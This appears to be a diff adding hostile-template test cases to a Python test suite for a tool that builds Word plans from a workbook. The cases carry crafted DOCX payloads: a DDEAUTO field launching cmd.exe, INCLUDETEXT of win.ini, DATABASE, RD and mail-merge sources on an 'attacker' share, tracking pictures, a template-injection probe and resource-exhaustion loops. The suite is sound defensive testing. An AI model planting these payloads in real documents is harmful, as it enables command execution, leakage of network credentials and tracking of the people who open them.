@@ -10,7 +10,18 @@ import zipfile
 from collections.abc import Callable
 from pathlib import Path
 
-from tests.bad_inputs.crafted_docx import SHIPPED, crafted_template, linked_template
+from tests.bad_inputs.crafted_docx import (
+    SHIPPED,
+    badly_named_entry,
+    complex_field,
+    crafted_template,
+    damaged_entry,
+    encrypted_entry,
+    linked_template,
+    simple_field,
+    with_notes,
+    with_parts,
+)
 from tests.bad_inputs.hostile import HostileCase
 from tests.conftest import write_plan_workbook
 
@@ -64,6 +75,83 @@ def _footer_printing_markup(path: Path) -> Path:
 
 def _without_body(path: Path) -> Path:
     return crafted_template(path, replace={"word/document.xml": b"<x/>"})
+
+
+_DDE = ' DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe "/c calc" '
+_CHAIN = ".".join(["real"] * 20)
+
+
+def _footnote_fields(path: Path) -> Path:
+    """A footnote holding an INCLUDEPICTURE and a DDEAUTO field (python-docx never loads it)."""
+    picture = simple_field(' INCLUDEPICTURE "http://tracker.example.com/fn.png" \\d ')
+    return with_notes(path, "footnote", picture + "<w:p>" + complex_field(_DDE) + "</w:p>")
+
+
+def _field_built_by_field(path: Path) -> Path:
+    inner = complex_field(' QUOTE "INCLUDETEXT \\"C:\\\\Windows\\\\win.ini\\"" ', "q")
+    return with_parts(
+        path,
+        '<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r>'
+        + inner
+        + '<w:r><w:fldChar w:fldCharType="separate"/></w:r><w:r><w:t>built</w:t></w:r>'
+        '<w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>',
+    )
+
+
+def _database_fields(path: Path) -> Path:
+    database = ' DATABASE \\d "\\\\\\\\attacker\\\\share\\\\db.xlsx" \\s "SELECT 1" '
+    document = ' RD "\\\\\\\\attacker\\\\share\\\\chapter.docx" '
+    return with_parts(path, "<w:p>" + complex_field(database) + "</w:p>" + simple_field(document))
+
+
+def _mail_merge(path: Path) -> Path:
+    merge = (
+        '<w:mailMerge><w:mainDocumentType w:val="formLetters"/><w:dataType w:val="native"/>'
+        '<w:connectString w:val="Data Source=\\\\attacker.example.com\\share\\data.xlsx"/>'
+        '<w:query w:val="SELECT * FROM `Sheet1$`"/></w:mailMerge>'
+    )
+    return with_parts(path, settings_insert=merge)
+
+
+def _alt_chunk(path: Path) -> Path:
+    return with_parts(
+        path,
+        '<w:altChunk r:id="rIdAC1"/>',
+        parts={"word/chunk1.htm": b'<html><img src="http://tracker.example.com/p.png"></html>'},
+        content_types={"word/chunk1.htm": "text/html"},
+        document_rels=[("rIdAC1", "aFChunk", "chunk1.htm")],
+    )
+
+
+def _footnote_printing_markup(path: Path) -> Path:
+    note = "<w:p><w:r><w:t>{{ '&lt;w:p&gt;'|safe }}</w:t></w:r></w:p>"
+    return with_notes(path, "footnote", note)
+
+
+def _footnote_printing_council(folder: Path) -> list[str]:
+    """Workbook text with tags, printed in a footnote: rendered once, so printed literally."""
+    write_plan_workbook(folder / WORKBOOK, plan={"council": "Evil {{ 7*7 }} {{ plan.title|safe }}"})
+    note = '<w:p><w:r><w:t xml:space="preserve">Council: {{ plan.council }}</w:t></w:r></w:p>'
+    with_notes(folder / "template.docx", "footnote", note)
+    return ["build", WORKBOOK, "-o", "out", "--template", "template.docx", *TIMEOUT]
+
+
+def _long_details(folder: Path) -> list[str]:
+    """A council name, title and author over the 255 characters a document property holds."""
+    write_plan_workbook(
+        folder / WORKBOOK, plan={"council": "C" * 300, "title": "T" * 300, "author": "A" * 300}
+    )
+    return ["build", WORKBOOK, "-o", "out"]
+
+
+def _paragraph_loop(path: Path) -> Path:
+    """10,500 turns of 1,000 empty paragraphs: lxml gives up on the tree python-docx searches."""
+    loop = (
+        "<w:p><w:r><w:t>{%p for i in range(10500) %}</w:t></w:r></w:p>"
+        + "<w:p/>" * 1000
+        + "<w:p><w:r><w:t>{%p endfor %}</w:t></w:r></w:p>"
+    )
+    return with_parts(path, loop)
 
 
 def _into_output(folder: Path) -> list[str]:
@@ -217,5 +305,103 @@ CASES: list[HostileCase] = [
         _into_output,
         exit_code=2,
         says=("same file as the input",),
+    ),
+    HostileCase(
+        "template-footnote-fields",
+        "INCLUDEPICTURE and DDEAUTO fields in a footnote, a part python-docx never loads",
+        _build_with(_footnote_fields),
+        exit_code=0,
+        says=("INCLUDEPICTURE field", "DDEAUTO field", "Wrote out/plan.docx"),
+    ),
+    HostileCase(
+        "template-field-built-by-field",
+        '{ { QUOTE "INCLUDETEXT ..." } }: the instruction is made when fields update',
+        _build_with(_field_built_by_field),
+        exit_code=0,
+        says=("a field named by a field", "INCLUDETEXT", "Wrote out/plan.docx"),
+    ),
+    HostileCase(
+        "template-database-fields",
+        "DATABASE and RD fields reading a file share",
+        _build_with(_database_fields),
+        exit_code=0,
+        says=("DATABASE field", "RD field"),
+    ),
+    HostileCase(
+        "template-mail-merge",
+        "a mail-merge connection string and query in the settings",
+        _build_with(_mail_merge),
+        exit_code=0,
+        says=("a mail-merge source",),
+    ),
+    HostileCase(
+        "template-alt-chunk",
+        "an HTML altChunk with a tracking picture",
+        _build_with(_alt_chunk),
+        exit_code=0,
+        says=("an embedded chunk", "word/chunk1.htm"),
+    ),
+    HostileCase(
+        "template-footnote-workbook-tags",
+        "workbook text with tags printed in a footnote (rendered once, so literal)",
+        _footnote_printing_council,
+        exit_code=0,
+        says=("Wrote out/plan.docx",),
+        never_says=("Evil 49",),
+    ),
+    HostileCase(
+        "template-footnote-breaks-xml",
+        "a footnote tag printing unbalanced raw XML (|safe)",
+        _build_with(_footnote_printing_markup),
+        exit_code=2,
+        says=("produced invalid XML",),
+        must_not_exist=("out/plan.docx",),
+    ),
+    HostileCase(
+        "template-filter-past-time-budget",
+        "map(attribute=...) over ten million items: one filter call, killed at the time budget",
+        _payload("{{ (range(100000)|list * 100)|map(attribute='" + _CHAIN + "')|list|length }}"),
+        exit_code=2,
+        says=("took longer than 3 seconds",),
+        subprocess=True,
+        timeout=60,
+    ),
+    HostileCase(
+        "template-entry-encrypted",
+        "the document part flagged as encrypted in the zip",
+        _build_with(lambda path: encrypted_entry(SHIPPED, path, "word/document.xml")),
+        exit_code=2,
+        says=("Cannot open the Word template", "word/document.xml is encrypted"),
+    ),
+    HostileCase(
+        "template-entry-damaged",
+        "the styles part's compressed bytes overwritten",
+        _build_with(lambda path: damaged_entry(SHIPPED, path, "word/styles.xml")),
+        exit_code=2,
+        says=("Cannot open the Word template", "word/styles.xml is damaged"),
+    ),
+    HostileCase(
+        "template-entry-bad-name",
+        "a part name that is not UTF-8 although flagged so",
+        _build_with(lambda path: badly_named_entry(SHIPPED, path, "docProps/app.xml")),
+        exit_code=2,
+        says=("Cannot open the Word template", "damaged"),
+    ),
+    HostileCase(
+        "template-long-properties",
+        "council, title and author of 300 characters (document properties hold 255)",
+        _long_details,
+        exit_code=0,
+        says=("Wrote out/plan.docx",),
+        never_says=("Word template",),
+    ),
+    HostileCase(
+        "template-paragraph-loop",
+        "10,500 copies of 1,000 paragraphs: renders, or stops with a clear error",
+        _build_with(_paragraph_loop, "--template-timeout", "60"),
+        exit_code=2,
+        says=("too large to finish",),
+        subprocess=True,
+        timeout=120,
     ),
 ]
